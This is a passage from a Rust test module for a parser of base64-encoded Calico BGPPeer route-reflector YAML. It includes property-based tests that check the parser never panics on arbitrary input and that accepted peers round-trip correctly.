                            i / 250,
                            i % 250 + 1
                        )
                    )
                )
            })
            .collect();
        let peers = parse_route_reflectors(&b64(&text), None).expect("50 peers");
        assert_eq!(peers.len(), MAX_DOCUMENTS);
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(128))]
        #[test]
        fn never_panics_on_arbitrary_yaml(text in "(\\PC|\n){0,400}") {
            let _ = parse_route_reflectors(&b64(&text), None);
        }

        /// Documents that are BGPPeers, with distinct known fields holding arbitrary values (quoted strings, or
        /// plain scalars that YAML may read as numbers or booleans), reach the fields' checks.
        #[test]
        fn never_panics_on_arbitrary_peer_fields(
            fields in proptest::sample::subsequence(KNOWN_SPEC_FIELDS.to_vec(), 0..8),
            values in proptest::collection::vec(("\\PC{0,40}", proptest::bool::ANY, "[a-z0-9.:-]{0,12}"), 8),
        ) {
            let spec: String = fields
                .iter()
                .zip(&values)
                .map(|(k, (text, quoted, plain))| {
                    let value = if *quoted {
                        serde_json::to_string(text).unwrap_or_default()
                    } else {
                        plain.clone()
                    };
                    format!("  {k}: {value}\n")
                })
                .collect();
            let doc = format!("apiVersion: projectcalico.org/v3\nkind: BGPPeer\nmetadata:\n  name: rr\nspec:\n{spec}");
            let _ = parse_route_reflectors(&b64(&doc), None);
        }

        #[test]
        fn never_panics_on_arbitrary_encoded(raw in "[A-Za-z0-9+/= \\n-]{0,200}") {
            let _ = parse_route_reflectors(&raw, None);
        }

        #[test]
        fn accepted_peers_round_trip(a in 1u8..=254, asn in 1u32..=2_147_483_647, port in proptest::option::of(1u16..)) {
            let ip = match port { Some(p) => format!("\"10.1.2.{a}:{p}\""), None => format!("10.1.2.{a}") };
            let text = peer_doc("rr", &format!("  peerIP: {ip}\n  asNumber: {asn}\n"));
            let peers = parse_route_reflectors(&b64(&text), None).map_err(|e| proptest::test_runner::TestCaseError::fail(format!("{e:?}")))?;
            proptest::prop_assert_eq!(peers[0].spec.get("asNumber"), Some(&Value::from(asn)));
            let yaml_again = format!("  peerIP: {}\n  asNumber: {}\n", peers[0].spec["peerIP"], peers[0].spec["asNumber"]);
            let again = parse_route_reflectors(&b64(&peer_doc("rr", &yaml_again)), None).map_err(|e| proptest::test_runner::TestCaseError::fail(format!("{e:?}")))?;
            proptest::prop_assert_eq!(again, peers);
        }
    }
}
